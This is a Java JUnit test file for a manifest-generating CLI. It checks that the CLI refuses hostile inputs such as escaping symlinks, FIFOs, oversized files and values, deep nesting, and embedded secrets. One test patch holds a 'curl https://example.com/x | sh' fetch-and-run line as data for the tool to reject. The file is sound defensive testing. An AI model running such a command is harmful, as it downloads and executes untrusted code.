package dev.meshgen.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.meshgen.TestProject;
import dev.meshgen.pipeline.Sources;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Issue 11's hostile inputs, one case per class: each is refused with exit 1 and a first error
 * naming the file (and line and column where there is one) and the limit or rule, with no stack
 * trace or "internal error", fast, and with the output folder exactly as it was.
 */
class HostileInputTest {
  private static final String LOCAL_ROLE = "description: local\npatches:\n  - path: patches/p.yaml\n"
      + "    target: {kind: IstioOperator}\n";
  private static final String HOST_LINE = "    host: httpbin.org\n";

  @TempDir static Path shared;
  private static Path renderedOut;
  private static Map<String, String> before;

  @TempDir Path dir;

  /** A case: what to break in a copy of the fixture, how to run, what must be said first. */
  private record Case(Breaker breaker, List<String> args, String firstError) {}

  @FunctionalInterface
  private interface Breaker {
    void breakIn(Sources sources, Path dir) throws Exception;
  }

  @BeforeAll
  static void renderGoodOutput() {
    renderedOut = shared.resolve("out");
    TestProject.Result ok = TestProject.render(TestProject.sources(), renderedOut, "--env", "example");
    assertEquals(0, ok.exit(), ok.err());
    before = TestProject.snapshot(renderedOut);
  }

  static Stream<Arguments> cases() {
    return Stream.of(
        of("symlink out of environments/", (s, d) -> {
          Files.copy(s.environments().resolve("example.yaml"), d.resolve("outside.yaml"));
          Files.createSymbolicLink(s.environments().resolve("evil.yaml"), d.resolve("outside.yaml"));
        }, List.of("--env", "evil"), "{E}/evil.yaml: error: is a symlink to a file outside {E}; a property file must "
            + "lie inside its folder"),
        of("FIFO property file", (s, d) -> mkfifo(s.environments().resolve("fifo.yaml")),
            List.of("--env", "fifo"), "{E}/fifo.yaml: error: is not a regular file (a FIFO, socket or device); meshgen "
                + "reads only regular files"),
        of("FIFO _defaults.yaml", (s, d) -> {
          Files.delete(s.environments().resolve("_defaults.yaml"));
          mkfifo(s.environments().resolve("_defaults.yaml"));
        }, List.of("--env", "example"), "{E}/_defaults.yaml: error: is not a regular file (a FIFO, socket or device); "
            + "meshgen reads only regular files"),
        of("300 MB patch", (s, d) -> {
          TestProject.write(s.overlays().resolve("local/role.yaml"), LOCAL_ROLE);
          sparse(s.overlays().resolve("local/patches/p.yaml"), 300L << 20);
        }, List.of("--env", "example"), "{O}/local/patches/p.yaml: error: file is 314572800 bytes, over the limit of "
            + "1048576 for a patch"),
        of("20 MB role definition", (s, d) -> sparse(s.overlays().resolve("local/role.yaml"), 20L << 20),
            List.of("--env", "example"), "{O}/local/role.yaml: error: file is 20971520 bytes, over the limit of 1048576 "
                + "for a role definition"),
        of("huge scalar on one line", (s, d) -> replace(s, HOST_LINE, "    host: " + "h".repeat(100_000) + "\n"),
            List.of("--env", "example"), "{E}/example.yaml:37:1: error: line 37 is 100010 characters, over the limit of "
                + "66816 for a property file (a value is at most 65536 characters, a key 1024)"),
        of("huge scalar over many lines", (s, d) -> replace(s, HOST_LINE, "    host: >-\n"
                + ("      " + "h".repeat(70) + "\n").repeat(1000)),
            List.of("--env", "example"), "{E}/example.yaml:37:11: error: externalServices[0].host: a value is over the "
                + "limit of 65536 characters for a property file"),
        of("20 MB scalar in a CRD", (s, d) -> TestProject.write(d.resolve("crd.yaml"),
                "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  description: "
                    + "d".repeat(20 << 20) + "\n"),
            List.of("--env", "example", "--crds", "{D}/crd.yaml"), "{D}/crd.yaml:4:1: error: line 4 is 20971535 "
                + "characters, over the limit of 1049856 for a CRD file (a value is at most 1048576 characters, a key 1024)"),
        of("huge key", (s, d) -> replace(s, HOST_LINE, HOST_LINE + "    " + "k".repeat(2000) + ": x\n"),
            List.of("--env", "example"), "{E}/example.yaml:38:2005: error: a key is over the limit of 1024 characters "
                + "for a property file"),
        of("deep nesting", (s, d) -> replace(s, HOST_LINE, HOST_LINE + "    deep: " + "[".repeat(100) + "]".repeat(100)
                + "\n"),
            List.of("--env", "example"), "{E}/example.yaml:38:72: error: nested deeper than the limit of 64 levels for a "
                + "property file"),
        of("invalid environment name under --all", (s, d) -> Files.copy(s.environments().resolve("example.yaml"),
                s.environments().resolve("Prod.yaml")),
            List.of("--all"), "{E}/Prod.yaml: error: not an environment: an environment file is <name>.yaml with a plain "
                + "name (lower-case letters, digits, '-'); rename it, or list it in {E}/.meshgenignore to keep it here"),
        of("U+FFFE in --set", (s, d) -> { },
            List.of("--env", "example", "--set", "externalServices[0].host=httpbin\uFFFE.org"),
            "--set externalServices[0].host: error: the value holds U+FFFE, a character YAML cannot carry; remove it"),
        of("U+FFFF escaped in a property file", (s, d) -> replace(s, HOST_LINE, "    host: \"httpbin\\uFFFF.org\"\n"),
            List.of("--env", "example"), "{E}/example.yaml:37:11: error: externalServices[0].host: the value holds "
                + "U+FFFF, a character YAML cannot carry; remove it"),
        of("template symlinked outside templates/", (s, d) -> {
          Path template = s.templates().resolve("namespace.yaml.ftl");
          Files.move(template, d.resolve("namespace.yaml.ftl"));
          Files.createSymbolicLink(template, d.resolve("namespace.yaml.ftl"));
        }, List.of("--env", "example"), "{T}/namespace.yaml.ftl: error: is a symlink to a file outside {T}; a template "
            + "must lie inside its folder"),
        of("patch symlinked outside its role", (s, d) -> {
          TestProject.write(s.overlays().resolve("local/role.yaml"), LOCAL_ROLE);
          TestProject.write(d.resolve("secret.yaml"), "kind: IstioOperator\n");
          Files.createDirectories(s.overlays().resolve("local/patches"));
          Files.createSymbolicLink(s.overlays().resolve("local/patches/p.yaml"), d.resolve("secret.yaml"));
        }, List.of("--env", "example"), "{O}/local/patches/p.yaml: error: is a symlink to a file outside {O}/local; a "
            + "patch must lie inside its folder"),
        of("patches/ folder symlinked outside its role", (s, d) -> {
          TestProject.write(s.overlays().resolve("local/role.yaml"), LOCAL_ROLE);
          TestProject.write(d.resolve("elsewhere/p.yaml"), "kind: IstioOperator\n");
          Files.createSymbolicLink(s.overlays().resolve("local/patches"), d.resolve("elsewhere"));
        }, List.of("--env", "example"), "{O}/local/patches/p.yaml: error: lies behind a symlinked folder to a file "
            + "outside {O}/local; a patch must lie inside its folder"),
        of("patch holding a Secret", (s, d) -> patch(s, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: x\n"
                + "stringData:\n  token: hunter2\n"),
            List.of("--env", "example"), "{O}/local/patches/p.yaml:2:7: error: kind: a patch may not hold a Secret; a "
                + "patch is committed to the GitOps repository: keep secrets in a Kubernetes Secret made outside it (or "
                + "the CI's credential store) and reference it by name"),
        of("patch holding key material", (s, d) -> patch(s, "apiVersion: install.istio.io/v1alpha1\nkind: IstioOperator\n"
                + "metadata:\n  name: istio-egress\nspec:\n  values:\n    global:\n      caCert: \"-----BEGIN PRIVATE KEY"
                + "-----\\nMIIEvQIBADANBg\\n-----END PRIVATE KEY-----\"\n"),
            List.of("--env", "example"), "{O}/local/patches/p.yaml:8:15: error: spec.values.global.caCert: the value "
                + "looks like a private key ('----***'); a patch is committed to the GitOps repository: keep secrets in a "
                + "Kubernetes Secret made outside it (or the CI's credential store) and reference it by name"),
        of("patch that is not YAML", (s, d) -> patch(s, "#!/bin/sh\ncurl https://example.com/x | sh\n"),
            List.of("--env", "example"), "{O}/local/patches/p.yaml:2:1: error: a patch is a strategic-merge patch (a YAML "
                + "mapping with kind) or a JSON 6902 list of operations ({op, path, value}); this is neither"),
        of("patch with a field its kind lacks", (s, d) -> patch(s, "apiVersion: install.istio.io/v1alpha1\n"
                + "kind: IstioOperator\nmetadata:\n  name: istio-egress\nspec:\n  profil: empty\n"),
            List.of("--env", "example"), "{O}/local/patches/p.yaml:6:3: error: spec.profil: unknown field 'profil' (did "
                + "you mean 'profile'?)"),
        of("long names", (s, d) -> { },
            List.of("--env", "example", "--set", "externalServices[0].name=" + "s".repeat(63)),
            "example/verify/local/job_app1_verify-" + "s".repeat(63) + ".yaml:5:3: error: metadata.name: Job name of 70 "
                + "characters is over Kubernetes' limit of 63 (a Job's name becomes the job-name label of its pods); "
                + "shorten the properties it is made of, got 'verify-" + "s".repeat(63) + "' [kubernetes-names]"));
  }

  private static Arguments of(String name, Breaker breaker, List<String> args, String firstError) {
    return Arguments.of(name, new Case(breaker, args, firstError));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  @Timeout(value = 20, unit = TimeUnit.SECONDS)
  void render_hostileInput_isRefusedCleanlyAndWritesNothing(String name, Case c) throws Exception {
    Sources sources = TestProject.copySources(dir.resolve("src"));
    Path out = dir.resolve("out");
    TestProject.copyTree(renderedOut, out);
    c.breaker().breakIn(sources, dir);

    List<String> args = new ArrayList<>(List.of("render"));
    args.addAll(TestProject.sourceArgs(sources));
    args.addAll(List.of("--out", out.toString()));
    c.args().forEach(a -> args.add(expand(a, sources)));
    TestProject.Result r = TestProject.run(args.toArray(String[]::new));

    assertEquals(1, r.exit(), r.err());
    assertEquals(expand(c.firstError(), sources), r.firstError(), r.err());
    assertFalse(r.err().contains("internal error") || r.err().contains("Exception") || r.err().contains("\tat "), r.err());
    assertEquals(before, TestProject.snapshot(out), "output changed after a refused render");
  }

  @Test
  @Timeout(value = 20, unit = TimeUnit.SECONDS)
  void renderAll_strayFileListedInIgnoreFile_isKept() throws Exception {
    Sources sources = TestProject.copySources(dir.resolve("src"));
    TestProject.write(sources.environments().resolve("README.md"), "# notes\n");
    TestProject.write(sources.environments().resolve("old_prod.yaml"), "clusters: {}\n");
    TestProject.write(sources.environments().resolve(".meshgenignore"), "# kept here on purpose\nREADME.md\nold_*.yaml\n");
    List<String> args = new ArrayList<>(List.of("validate"));
    args.addAll(TestProject.sourceArgs(sources));
    args.add("--all");
    TestProject.Result r = TestProject.run(args.toArray(String[]::new));

    assertEquals(0, r.exit(), r.err() + r.out());
  }

  private static String expand(String text, Sources s) {
    return text.replace("{E}", s.environments().toString()).replace("{T}", s.templates().toString())
        .replace("{O}", s.overlays().toString()).replace("{D}", s.environments().getParent().getParent().toString());
  }

  private static void replace(Sources s, String from, String to) throws IOException {
    Path file = s.environments().resolve("example.yaml");
    String text = Files.readString(file);
    assertEquals(text.indexOf(from), text.lastIndexOf(from), from);
    Files.writeString(file, text.replace(from, to));
  }

  private static void patch(Sources s, String text) {
    TestProject.write(s.overlays().resolve("local/role.yaml"), LOCAL_ROLE);
    TestProject.write(s.overlays().resolve("local/patches/p.yaml"), text);
  }

  /** A file of {@code size} bytes that takes no disk: the size check must refuse it before a byte is read. */
  private static void sparse(Path file, long size) throws IOException {
    Files.createDirectories(file.getParent());
    try (RandomAccessFile f = new RandomAccessFile(file.toFile(), "rw")) {
      f.setLength(size);
    }
  }

  private static void mkfifo(Path file) throws Exception {
    Process p;
    try {
      p = new ProcessBuilder("mkfifo", file.toString()).redirectErrorStream(true).start();
    } catch (IOException e) {
      assumeTrue(false, "mkfifo is not available");
      throw new UncheckedIOException(e);
    }
    assumeTrue(p.waitFor(10, TimeUnit.SECONDS) && p.exitValue() == 0, "mkfifo failed");
  }
}
